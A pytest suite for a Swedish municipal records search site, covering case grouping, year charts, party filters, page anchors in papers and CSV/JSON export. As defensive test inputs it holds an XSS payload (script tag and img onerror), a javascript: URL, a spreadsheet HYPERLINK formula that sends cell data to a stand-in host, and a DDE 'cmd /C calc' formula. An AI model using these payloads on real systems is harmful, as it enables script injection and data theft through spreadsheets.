"""What a result is made of beyond a list: cases, years, parties, pages of papers, files to take along."""

import csv
import io
import json
import re
from datetime import date
from pathlib import Path

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from decisions.models import Position, Submitter
from search.index import outbox, writer
from search.index.engine import get_engine
from search.web import export
from tests.factories.people import make_superuser
from tests.factories.records import (
    attach_file,
    make_committee,
    make_document,
    make_item,
    make_meeting,
    make_minutes,
    make_paper,
    publish_item,
    publish_paper,
)
from tests.functional.test_search_page import Links, commit, page

pytestmark = pytest.mark.django_db
EVIL = "\"><script>alert(1)</script><img src=x onerror=alert(2)>'"


@pytest.fixture(autouse=True)
def index(settings, tmp_path: Path) -> None:
    settings.SEARCH_INDEX_FOLDER = tmp_path / "search"
    get_engine().rebuild([])


def publish_case(number: str, items: int, word: str = "Simhall") -> str:
    """A case with that many published §§ in as many years. Returns its path."""
    committee = make_committee("Kommunstyrelsen", abbreviations="KS")
    item = None
    for place in range(items):
        minutes = make_minutes(make_meeting(committee, date(2020 + place, 3, 4)))
        item = publish_item(
            make_item(minutes, 10 * int(number.partition("/")[2]) + place, f"{word} del {place + 1}", dnrs=[number])
        )
    assert item is not None
    commit()
    case = item.dnrs.get().case
    assert case is not None
    return str(case.path)


def test_hits_of_a_case_stand_under_it(client: Client) -> None:
    path = publish_case("2020/17", 7)
    publish_item(make_item(title="Simhall utan ärende"))
    html = page(client, "q=simhall&gruppera=arende&sort=nyast")
    assert "8 träffar i 2 ärenden och enskilda handlingar" in html
    assert html.count(f'href="/{path}/"') == 1
    assert "Ärende · Exempelkommun · 7 träffar" in html
    assert html.index("Simhall</mark> utan ärende") < html.index(f'href="/{path}/"')
    assert html.count('<h4 class="hit-title">') == 5, "the best ones, the rest behind a link"
    more = Links(html).to("Fler träffar i ärendet")
    rest = page(client, more.partition("?")[2] + "&visa=traffar")
    assert "7 träffar" in rest
    plain = Links(html).to("Träff för träff")
    assert plain == "/sok/?q=simhall&sort=nyast"
    assert Links(page(client, plain.partition("?")[2])).to("Ärende för ärende") == (
        "/sok/?q=simhall&sort=nyast&gruppera=arende"
    )


def test_groups_are_paged_by_case(client: Client) -> None:
    for number in range(1, 4):
        publish_case(f"2020/{number}", 2, f"Simhall nummer {number}")
    first = page(client, "q=simhall&gruppera=arende&antal=2&sort=nyast")
    assert "6 träffar i 3 ärenden och enskilda handlingar, sida 1 av 2" in first
    following = Links(first).to("Nästa")
    assert following == "/sok/?q=simhall&sort=nyast&gruppera=arende&antal=2&sida=2"
    second = page(client, following.partition("?")[2])
    assert first.count("Ärende ·") == 2
    assert second.count("Ärende ·") == 1


def test_what_is_withdrawn_stands_under_no_case(client: Client) -> None:
    publish_case("2020/17", 2)
    item = publish_item(make_item(title="Simhall hemlig", dnrs=["2020/17"]))
    commit()
    type(item).objects.filter(pk=item.pk).update(live=False)
    html = page(client, "q=simhall&gruppera=arende")
    assert "hemlig" not in html
    assert "Sökindexet uppdateras" in html


def test_a_grouped_page_costs_a_constant_number_of_queries(client: Client) -> None:
    def cost() -> int:
        with CaptureQueriesContext(connection) as asked:
            page(client, "q=simhall&gruppera=arende")
        return len(asked)

    publish_case("2020/1", 2)
    few = cost()
    for number in range(2, 8):
        publish_case(f"2020/{number}", 3)
    assert few == cost() <= 15


def test_years_are_drawn_and_told(client: Client) -> None:
    publish_case("2020/17", 3)
    publish_item(make_item(title="Simhall 2030"))
    html = page(client, "q=simhall&ar=2021")
    assert 'role="img" aria-label="Träffar per år från 2020 till 2030, flest 2030: 1.' in html
    assert html.count("<rect ") == 4
    assert html.count('class="chosen"') == 1
    assert "style=" not in html, "the policy for styles lets nothing in the page through"


def test_parties_narrow_by_what_they_did_and_nobody_is_named(client: Client) -> None:
    item = publish_item(make_item())
    other = publish_item(make_item(item.minutes.get(), 97, "Taxa för tillsyn"))
    Position.objects.create(
        item=item, kind="reserved", name="Ledamot Exempelsson", party="S", text="Vi reserverar oss."
    )
    Submitter.objects.create(item=other, name="Motionär Provdal", party="Eva Provdal")
    outbox.add([f"item-{item.pk}", f"item-{other.pk}"])
    writer.drain()
    html = page(client, "q=taxa")
    address = Links(html).to("S: reservation")
    assert address == "/sok/?q=taxa&parti=s-reservation"
    narrowed = page(client, address.partition("?")[2])
    assert "1 träff" in narrowed
    assert "Parti: S: reservation" in narrowed
    for name in ("Exempelsson", "Provdal"):
        assert name not in html
        assert client.get("/sok/forslag/", {"q": name}).json() == {"forslag": []}


def test_a_hit_in_a_paper_opens_at_its_page(client: Client) -> None:
    paper = make_paper(title="Utredning om badhus")
    file = make_document(paper.committee, pages=["Inledning.", "Kalkyl för bassängen.", "Slut."])
    attach_file(file, paper, public=True, public_name="utredning.pdf")
    paper = publish_paper(paper)
    html = page(client, "q=bassängen")
    address = Links(html).to("Utredning om badhus")
    assert address == f"/{paper.path}/#sida-2"
    assert "sida 2" in html
    assert 'id="sida-2"' in client.get(f"/{paper.path}/").content.decode()


def test_takes_the_whole_result_along_as_csv(client: Client) -> None:
    minutes = make_minutes()
    for number in range(1, 24):
        publish_item(make_item(minutes, number, f"Taxa nummer {number}", dnrs=[f"2030/{number}"]))
    html = page(client, "q=taxa&sort=aldst&sida=2")
    address = Links(html).to("Hämta som CSV")
    assert address == "/sok/traffar.csv?q=taxa&sort=aldst"
    response = client.get(address)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="sokresultat.csv"'
    text = response.content.decode()
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text[1:]), delimiter=";"))
    assert [row["rubrik"] for row in rows] == [f"Taxa nummer {number}" for number in range(1, 24)]
    assert rows[0]["adress"].startswith("http://testserver/exempelkommun/")
    assert (rows[0]["datum"], rows[0]["paragraf"], rows[0]["diarienummer"]) == ("2030-05-22", "1", "2030/1")


def test_takes_it_along_as_json_with_the_same_filters(client: Client) -> None:
    publish_item(make_item(make_minutes(make_meeting(make_committee("Kommunstyrelsen"))), title="Taxa för torg"))
    publish_item(make_item(make_minutes(make_meeting(make_committee("Miljönämnden"))), title="Taxa för tillsyn"))
    commit()
    found = json.loads(client.get("/sok/traffar.json?q=taxa&organ=exempelkommun/miljonamnden&gruppera=arende").content)
    assert (found["antal"], found["hamtade"], found["hogst"]) == (1, 1, export.MOST_ROWS)
    assert found["adress"] == "http://testserver/sok/?q=taxa&organ=exempelkommun%2Fmiljonamnden"
    assert found["traffar"][0]["rubrik"] == "Taxa för tillsyn"
    assert found["traffar"][0]["exempeldata"] is False


def test_a_file_has_a_stated_bound(client: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    minutes = make_minutes()
    for number in range(1, 13):
        publish_item(make_item(minutes, number, f"Taxa nummer {number}"))
    commit()
    monkeypatch.setattr(export, "MOST_ROWS", 10)
    monkeypatch.setattr(export, "MAX_PAGE_SIZE", 5)
    found = json.loads(client.get("/sok/traffar.json?q=taxa").content)
    assert (found["antal"], found["hamtade"], len({row["adress"] for row in found["traffar"]})) == (12, 10, 10)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "  =", "＝"])
def test_no_spreadsheet_computes_a_cell(client: Client, start: str) -> None:
    evil = f'{start}HYPERLINK("http://exempel.invalid/?"&A1;"Torghandel")'
    publish_item(make_item(title=evil, clauses=[f"{start}cmd|' /C calc'!A0"]))
    commit()
    text = client.get("/sok/traffar.csv").content.decode()[1:]
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(rows) == 2
    assert len(rows[1]) == len(rows[0])
    for cell in rows[1]:
        assert not re.match(r"\s*[=+\-@＝]", cell), cell


def test_a_file_says_what_is_wrong(client: Client, settings, tmp_path: Path) -> None:
    publish_item(make_item())
    commit()
    assert client.get("/sok/traffar.csv?q=dnr:abc").status_code == 400
    assert "kommmun" in client.get("/sok/traffar.csv?q=taxa&kommmun=x").content.decode()
    assert client.get("/sok/traffar.xml?q=taxa").status_code == 404
    with export._making:
        busy = client.get("/sok/traffar.csv?q=taxa")
    assert (busy.status_code, busy["Retry-After"]) == (429, "5")
    assert client.get("/sok/traffar.csv?q=taxa").status_code == 200
    settings.SEARCH_INDEX_FOLDER = tmp_path / "gone"
    assert client.get("/sok/traffar.json?q=taxa").status_code == 503
    assert export._making.acquire(blocking=False), "an error gives the turn back"
    export._making.release()


def test_a_page_behind_the_last_one_leads_back(client: Client) -> None:
    publish_item(make_item())
    html = page(client, "q=taxa&sida=7")
    assert "Sidan 7 finns inte. Sökningen har 1 sida." in html
    assert Links(html).to("Till träffarna") == "/sok/?q=taxa"


PARAMETERS = (
    *(
        "q",
        "kommun",
        "organ",
        "ar",
        "initiativ",
        "lansinitiativ",
        "handlingstyp",
        "arendetyp",
        "utfall",
        "parti",
        "typ",
    ),
    *("fore", "efter", "dnr", "paragraf", "sort", "sida", "antal", "gruppera", "visa", "forklara"),
)


@pytest.mark.parametrize("name", [*PARAMETERS, EVIL])
@pytest.mark.parametrize("value", [EVIL, f'"{EVIL}"', f"namn:{EVIL}", f"dnr:{EVIL}", "javascript:alert(1)"])
def test_what_is_typed_is_text_wherever_it_comes_back(client: Client, name: str, value: str) -> None:
    publish_item(make_item())
    commit()
    for parameters in ({name: value}, {"q": "taxa", "gruppera": "arende", name: value}):
        response = client.get("/sok/", parameters)
        assert response.status_code in {200, 302, 400}
        html = response.content.decode()
        assert "<script>alert" not in html
        assert "<img" not in html
        assert 'href="javascript:' not in html.lower()
        for file in ("csv", "json"):
            answer = client.get(f"/sok/traffar.{file}", parameters)
            assert answer.status_code in {200, 400}
            assert not answer["Content-Type"].startswith("text/html")


def test_staff_see_why_a_hit_stands_where_it_does_and_visitors_do_not(client: Client) -> None:
    publish_item(make_item())
    html = page(client, "q=taxa&forklara=1")
    assert "Varför träffen står här" not in html
    assert "visas bara för den som är inloggad" in html
    client.force_login(make_superuser())
    response = client.get("/sok/?q=taxa&forklara=1")
    html = response.content.decode()
    assert "Varför träffen står här" in html
    assert "Alla ord finns i träffen." in html
    assert "no-store" in response["Cache-Control"]
    assert "Varför träffen står här" not in page(client, "q=taxa")
